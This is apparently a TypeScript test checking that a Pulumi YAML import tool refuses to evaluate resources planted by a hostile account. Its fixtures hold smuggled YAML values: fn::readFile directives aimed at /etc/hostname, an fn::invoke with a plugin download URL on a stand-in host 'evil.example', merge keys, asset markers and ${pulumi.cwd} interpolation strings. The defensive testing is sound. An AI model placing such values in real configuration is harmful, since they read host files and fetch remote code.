import { appendFileSync, readFileSync } from "node:fs";
import { join } from "node:path";
import fc from "fast-check";
import { findOrInstallLanguageYaml } from "../../tools/programs/language-yaml/find-or-install";
import { hostileBody } from "../support/hostile-text";
import { useTestEnvironment } from "./support";
import { trefoil } from "./support/trefoil";

/** Objects that Pulumi's YAML would take for calls of functions, or for members to merge. */
const calls = [
  { "fn::readFile": "/etc/hostname" },
  { labels: { "FN::ReadFile": "/etc/hostname" } },
  // Pulumi also searches a function at the end of a name.
  { labels: { "a Fn::std:index:readFile": { input: "/etc/hostname" } } },
  {
    labels: [
      [{ "fn::invoke": { function: "evil:index:run", options: { pluginDownloadURL: "https://evil.example" } } }],
    ],
  },
  { labels: { "<<": { a: "b" } } },
  { other: 1, "fn::fileAsset": "/etc/hostname" },
];

/** Objects that Pulumi would take for an asset or an unknown value, in any language. */
const markers = [
  { "4dabf18193072939515e22adb298388d": "c44067f5952c0a294b673a41bacd8c17", path: "/etc/hostname" },
  { a: { b: "04da6b54-80e4-46f7-96ec-b56ff0331ba9" } },
];

/** Expressions in names and values: they would insert the folder of the program. */
const expressions = [
  { ["$" + "{pulumi.cwd}"]: "$" + "{pulumi.cwd}" },
  { nested: [{ ["$$" + "{pulumi.cwd}"]: { $: "$$" } }] },
  { "a\u0085evil: {x: 1}": "b\u0085evil: {x: 1}", "\u2028": "\u202e", ["k".padEnd(2000, "k")]: ["<<", "=", "1:30"] },
];

describe("a program in YAML of a hostile account", () => {
  const environment = useTestEnvironment();

  /** Creates an object in the emulated service. */
  async function create(body: object): Promise<void> {
    const { rest, credentials } = environment.emulator;
    const headers = { authorization: `Bearer ${credentials.rest.token}`, "content-type": "application/json" };
    const { status } = await fetch(`${rest.url}/v1/resources`, { method: "POST", headers, body: JSON.stringify(body) });
    expect(status).toBe(201);
  }

  /** The objects of the service without their ids. */
  function bodies(): object[] {
    const collections = Object.values(environment.emulator.rest.control.objects());
    return collections.flatMap((collection) => Object.values(collection)).map(({ id, ...body }) => body);
  }

  it("evaluates nothing, and creates the same objects again", async () => {
    const seed = Date.now() % 2 ** 31;
    const random = fc.sample(hostileBody, { numRuns: 40, seed }).filter((body) => Object.keys(body).length);
    // Strings below other names become secrets of the configuration.
    const secret = random.slice(0, 5).map((body) => Object.fromEntries(Object.keys(body).map((name) => [name, "x"])));
    const labelled = [...random, ...expressions].map((labels) => ({ labels }));
    for (const body of [...secret, ...labelled]) await create(body);
    const declared = bodies().length;
    for (const body of [...calls, ...markers]) await create(body);

    const stack = await environment.project("", {
      host: "plugin",
      attached: true,
      path: [await findOrInstallLanguageYaml()],
      files: { "Pulumi.yaml": "name: test\nruntime: yaml\n" },
    });
    const args = ["rest", "--all", "--in", "/v1/resources", "--language", "yaml", "--out", "part.yaml"];
    const { code, out, err } = await trefoil(stack, ["import", ...args, "--stack", "dev", "--apply"]);
    expect({ seed, code, out, err }).toEqual({
      seed,
      code: 2,
      out: expect.stringContaining("Not imported:"),
      err: expect.any(String),
    });
    expect(out.match(/no program in YAML can declare it/g)).toHaveLength(calls.length);
    expect(out.match(/no program can declare it/g)).toHaveLength(markers.length);
    appendFileSync(join(stack.folder, "Pulumi.yaml"), `\n${readFileSync(join(stack.folder, "part.yaml"), "utf8")}`);
    const succeeds = (result: { readonly exitCode: number | null }) =>
      expect({ seed, ...result }).toMatchObject({ seed, exitCode: 0 });
    succeeds(await stack.preview({ expectNoChanges: true }));
    succeeds(await stack.preview({ refresh: true, expectNoChanges: true }));

    environment.emulator.rest.control.reset();
    succeeds(await stack.up({ refresh: true }));
    // The previews have compared the inputs of all objects. An import omits empty members of the random ones.
    expect({ seed, count: bodies().length }).toEqual({ seed, count: declared });
    expect(bodies()).toEqual(expect.arrayContaining(expressions.map((labels) => ({ labels }))));
  });
});
